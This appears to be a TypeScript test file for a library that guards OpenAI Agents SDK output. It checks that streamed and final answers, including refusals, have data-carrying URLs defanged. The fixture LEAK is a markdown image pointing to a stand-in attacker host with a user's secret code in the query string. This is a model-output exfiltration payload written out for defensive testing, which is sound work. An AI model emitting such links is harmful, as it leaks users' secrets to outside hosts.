import { Agent, type ModelProvider, OpenAIProvider, Runner, type StreamEvent } from '@openai/agents';
import { LatestModel, toolDescriptions } from '@sallyport/core/adapter';
import { ScriptedModel } from '@sallyport/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { protect } from '../src/index.ts';
import { protectModel } from '../src/model.ts';
import { conversation, requestOf, Scripted } from './scripted.ts';

const LEAK = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const CLEAN = 'Your code is 4711. chart (address withheld: evil[.]example) That is all.';

let model: ScriptedModel | undefined;
afterEach(() => model?.stop());

async function answering(useResponses: boolean, rawOutput: boolean): Promise<{ runner: Runner; agent: Agent }> {
  model = new ScriptedModel(useResponses ? 'responses' : 'chat');
  model.script([{ text: LEAK }]);
  const bare: ModelProvider = new OpenAIProvider({
    baseURL: `${await model.start()}/v1`,
    apiKey: 'none',
    useResponses,
  });
  const { provider } = protect(conversation(), { provider: bare, tools: [], declare: {}, rawOutput });
  const runner = new Runner({ modelProvider: provider, tracingDisabled: true });
  return { runner, agent: new Agent({ name: 'helper', model: 'x' }) };
}

describe.each([{ useResponses: true }, { useResponses: false }])(
  'an answer, responses: $useResponses',
  ({ useResponses }) => {
    it.each([
      { rawOutput: false, shown: CLEAN },
      { rawOutput: true, shown: LEAK },
    ])(
      'is shown without addresses that could carry data, unless rawOutput is $rawOutput',
      async ({ rawOutput, shown }) => {
        const { runner, agent } = await answering(useResponses, rawOutput);
        const { finalOutput, history, rawResponses } = await runner.run(agent, 'What is my code?');
        expect(finalOutput).toBe(shown);
        expect(JSON.stringify([history, rawResponses]).includes('d=4711')).toBe(rawOutput);
      },
    );

    it('is shown piece by piece in a stream, and nothing but a possible address waits', async () => {
      const { runner, agent } = await answering(useResponses, false);
      const result = await runner.run(agent, 'What is my code?', { stream: true });
      const events: StreamEvent[] = [];
      for await (const event of result) if (event.type === 'raw_model_stream_event') events.push(event.data);
      const texts = events.flatMap((event) => (event.type === 'output_text_delta' ? [event.delta] : []));
      expect(texts.join('')).toBe(CLEAN);
      expect(texts.slice(0, 2)).toEqual(['Your ', 'code is ']);
      expect(result.finalOutput).toBe(CLEAN);
      // Neither whole nor in pieces.
      expect(JSON.stringify(events)).not.toMatch(/evil\.ex|xample\/|\?d=/);
    });

    it('is shown piece by piece as it is with rawOutput', async () => {
      const { runner, agent } = await answering(useResponses, true);
      const result = await runner.run(agent, 'What is my code?', { stream: true });
      let text = '';
      for await (const piece of result.toTextStream()) text += piece;
      expect(text).toBe(LEAK);
    });
  },
);

describe('the events of a stream', () => {
  async function read(given: readonly StreamEvent[]): Promise<StreamEvent[]> {
    const inner = Object.assign(new Scripted([]), {
      async *getStreamedResponse(): AsyncIterable<StreamEvent> {
        yield* given;
      },
    });
    const events: StreamEvent[] = [];
    const talk = conversation();
    const seam = {
      conversation: talk,
      latest: new LatestModel<never>(),
      descriptions: toolDescriptions(talk),
      rawOutput: false,
    };
    const own = protectModel(seam, inner);
    for await (const event of own.getStreamedResponse(requestOf('Hi'))) events.push(event);
    return events;
  }

  const piece = (delta: string, itemId?: string): StreamEvent => {
    return { type: 'output_text_delta', delta, ...(itemId === undefined ? {} : { itemId }) };
  };

  it('show the end of a text before the next text', async () => {
    expect(await read([piece('One evil', 'a'), piece('.example/?d=1', 'a'), piece('Two words', 'b')])).toEqual([
      piece('One ', 'a'),
      piece(expect.stringContaining('evil[.]example') as never, 'a'),
      piece('Two ', 'b'),
      piece('words', 'b'),
    ]);
  });

  it('stay as they are if they have no text of the model', async () => {
    const call = { type: 'response.function_call_arguments.delta', delta: 'https://evil.example/?d=1' };
    const bytes = new Uint8Array([1]);
    const events: StreamEvent[] = [
      { type: 'response_started' },
      { type: 'model', event: { ...call, bytes } },
      { type: 'model', event: null },
    ];
    expect(await read(events)).toEqual(events);
  });

  it('sanitize a refusal', async () => {
    const done = { type: 'response.refusal.done', refusal: LEAK };
    const item = { role: 'assistant', content: [{ type: 'refusal', refusal: LEAK }] };
    const [event, other] = await read([done, item].map((each) => ({ type: 'model', event: each })));
    expect([event, other]).toEqual([
      { type: 'model', event: { ...done, refusal: CLEAN } },
      { type: 'model', event: { role: 'assistant', content: [{ type: 'refusal', refusal: CLEAN }] } },
    ]);
  });
});
